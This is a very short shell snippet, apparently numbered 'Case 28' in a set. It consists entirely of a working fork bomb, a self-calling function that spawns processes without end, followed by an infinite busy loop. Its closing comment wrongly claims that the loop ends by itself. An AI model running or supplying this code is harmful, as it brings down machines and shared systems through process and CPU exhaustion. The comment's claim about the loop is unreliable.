# Case 28: a fork bomb of the smallest processes there are.
bomb() { bomb | bomb & }
bomb
while :; do :; done # what cannot fork ends by itself, and would be done
